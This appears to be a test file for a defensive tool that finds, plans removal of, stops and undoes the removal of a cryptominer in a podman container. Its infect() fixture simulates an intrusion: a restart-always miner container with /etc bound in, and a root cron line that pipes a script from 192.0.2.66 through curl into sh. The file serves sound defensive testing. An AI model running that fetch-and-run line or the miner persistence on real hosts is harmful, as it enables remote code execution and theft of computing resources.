/**
 * A miner in a container of a real engine: found, planned, stopped, waited for, and started again by undo. The engine is
 * podman 5.4, which answers the Docker Engine API and starts containers again by their policy.
 */
import { expect, test } from 'bun:test';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Plan, planSchema } from '../../src/model/plan.ts';
import { image, inImage, openContainerHost, podman } from '../lab/containers.ts';
import { alarms, demine, type LabHost, scan } from '../lab/harness.ts';
import { comesBack, copyIn, exportedFiles, minersIn } from './in-container.ts';
import { minerArguments } from './infection.ts';

const kept = '/run/case';
/** Seconds; podman starts it again at once. */
const period = 2;

/** As an intruder does who may speak to the engine. */
async function infect(host: LabHost): Promise<void> {
  await podman(
    host,
    ...['run', '-d', '--name', 'cache', '--network', 'none', '--restart', 'always'],
    ...['-e', 'DEMINE_IN_NAMESPACE=1', '-e', 'API_TOKEN=tok-example-123', '-v', '/etc:/host/etc'],
    ...[image, inImage, ...minerArguments.split(' ')],
  );
  mkdirSync(join(host.root, 'etc/cron.d'), { recursive: true });
  writeFileSync(
    join(host.root, 'etc/cron.d/cache'),
    '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n',
  );
}

async function planOf(host: LabHost): Promise<Plan> {
  const { code, stdout, stderr } = await demine(host, ['plan', kept, '--json', '-']);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  return planSchema.parse(JSON.parse(stdout));
}

const actions = ({ steps }: Plan): readonly string[] =>
  steps.flatMap(({ phase, change }) => {
    if (change.kind === 'container') return [`${phase} ${change.action}`];
    const told: readonly string[] = ['freeze', 'kill', 'take-inside'];
    return told.includes(change.kind) ? [`${phase} ${change.kind}`] : [];
  });

test('by its engine: the policy goes, it stands still, it is copied, it ends, and undo starts it again', async () => {
  const { host, stop } = await openContainerHost();
  try {
    await infect(host);
    expect(await comesBack(host)).toBe(true);
    const { result } = await scan(host, ['--interval', '1', '--out', kept]);
    const malicious = result.persistence.filter(({ judgement }) => judgement === 'malicious');
    expect(malicious.some(({ source }) => source.endsWith('/userdata/config.json'))).toBe(true);
    const plan = await planOf(host);
    expect(actions(plan).filter((one) => !/ (?:freeze|kill)$/.test(one))).toEqual([
      'freeze no-restart',
      'freeze pause',
      'freeze evidence',
      'kill export',
      'kill stop',
    ]);
    const hands = plan.steps.flatMap(({ change }) => (change.kind === 'by-hand' ? [change] : []));
    const written = hands.find(({ task }) => task === 'check-binds')?.subjects ?? [];
    expect(written[0]).toBe('/etc → /host/etc' as (typeof written)[number]);
    expect(written.slice(1).map((one) => one.replace(/^P\d+ /, ''))).toEqual(['/etc/cron.d/cache']);
    const removal = hands.find(({ task }) => task === 'remove-container');
    expect(removal?.command).toMatch(/^podman rm [0-9a-f]{12} && podman image rm localhost\/lab\/cache:1$/);

    const clean = await demine(host, ['clean', kept, '--yes', '--lang', 'en']);
    expect({ code: clean.code, stderr: clean.stderr }).toEqual({ code: 0, stderr: '' });
    expect(clean.stdout).toContain(`copied: ${inImage}`);
    expect(await minersIn(host)).toEqual([]);
    const vault = join(host.root, kept, 'plan-1/vault');
    const said = copyIn(vault, 'inspect.json').toString();
    const files = exportedFiles(vault);
    expect(files.get(inImage)?.toString('latin1', 1, 4)).toBe('ELF');
    // What is bound in belongs to the host.
    expect([...files.keys()].filter((path) => path.startsWith('/host/etc/'))).toEqual([]);
    expect(clean.stdout).toMatch(/kept: S\d+-\d+\.container\/export\.tar\.neutralised \(\d/);
    expect(said).toContain('"API_TOKEN=***"');
    expect(said).not.toContain('tok-example');

    await Bun.sleep(2 * period * 1000);
    expect(await minersIn(host)).toEqual([]);
    expect(await podman(host, 'ps', '-a', '--format', '{{.State}}')).toBe('exited\n');
    const again = await scan(host, ['--interval', '1']);
    expect(again.result.processes.filter(({ container }) => container !== undefined)).toEqual([]);

    const undone = await demine(host, ['undo', kept, '--lang', 'en']);
    expect({ code: undone.code, stderr: undone.stderr }).toEqual({ code: 0, stderr: '' });
    expect(undone.stdout).toContain('Containers run again');
    expect(await podman(host, 'ps', '-a', '--format', '{{.State}}')).toBe('running\n');
    expect(await comesBack(host)).toBe(true);
    expect(existsSync(join(host.root, 'etc/cron.d/cache'))).toBe(true);
  } finally {
    await stop();
  }
});

test('one that does not fit is told before and when it is done, and what is small of it is kept', async () => {
  const { host, stop } = await openContainerHost();
  try {
    await infect(host);
    rmSync(join(host.root, 'etc/cron.d/cache'));
    await scan(host, ['--interval', '1', '--out', kept]);
    const sizes = (await planOf(host)).steps.flatMap(({ change }) =>
      change.kind === 'container' && change.action === 'export' ? [change.size] : [],
    );
    // busybox alone is larger.
    expect(sizes[0] ?? 0).toBeGreaterThan(500_000);
    const limit = ['--export-limit', '100K', '--lang', 'en'];
    const dry = await demine(host, ['clean', kept, ...limit]);
    expect(dry.stdout.replace(/\s+/g, ' ')).toContain(
      'file system of container cache is larger than may be kept',
    );
    const clean = await demine(host, ['clean', kept, '--yes', ...limit]);
    expect({ code: clean.code, stderr: clean.stderr }).toEqual({ code: 0, stderr: '' });
    expect(clean.stdout.replace(/\s+/g, ' ')).toMatch(
      /does not fit where copies are kept \([\d.]+ MiB > 100 KiB\)/,
    );
    const vault = join(host.root, kept, 'plan-1/vault');
    expect(copyIn(vault, 'changes.txt').length).toBeGreaterThan(0);
    expect(() => copyIn(vault, 'export.tar.neutralised')).toThrow();
    expect(await minersIn(host)).toEqual([]);
  } finally {
    await stop();
  }
});

test('without its engine: its monitor is held and ended with it, and the policy is for people, with the command', async () => {
  const { host, service, stop } = await openContainerHost();
  try {
    await infect(host);
    rmSync(join(host.root, 'etc/cron.d/cache'));
    await service.stop();
    expect(await comesBack(host)).toBe(true);
    await scan(host, ['--interval', '1', '--out', kept]);
    const plan = await planOf(host);
    expect(actions(plan)).toEqual(['freeze freeze', 'persistence take-inside', 'kill kill', 'verify kill']);
    const kill = plan.steps.flatMap(({ change }) => (change.kind === 'kill' ? [change] : []))[0];
    expect(kill?.processes.map(({ name, role }) => `${role} ${name}`)).toEqual([
      'respawner conmon',
      'respawner xmrig',
    ]);
    const removal = plan.steps.flatMap(({ change }) =>
      change.kind === 'by-hand' && change.task === 'remove-container' ? [change.command] : [],
    )[0];
    expect(removal).toMatch(/^podman update --restart no [0-9a-f]{12} && podman kill/);
    const words = ['clean', kept, '--yes', '--accept-irreversible', '--lang', 'en'];
    const clean = await demine(host, words);
    expect({ code: clean.code, stderr: clean.stderr }).toEqual({ code: 0, stderr: '' });
    await Bun.sleep(2 * period * 1000);
    expect(await minersIn(host)).toEqual([]);
  } finally {
    await stop();
  }
});

test('a host with an engine and a container of its owner’s is clean, and nothing is planned', async () => {
  const { host, stop } = await openContainerHost();
  try {
    await podman(
      host,
      ...['run', '-d', '--name', 'shop', '--network', 'none', '--restart', 'always'],
      ...[image, '/bin/sleep', '600'],
    );
    const { result } = await scan(host, ['--interval', '1', '--out', kept]);
    expect(alarms(result)).toEqual([]);
    expect((await planOf(host)).steps).toEqual([]);
  } finally {
    await stop();
  }
});
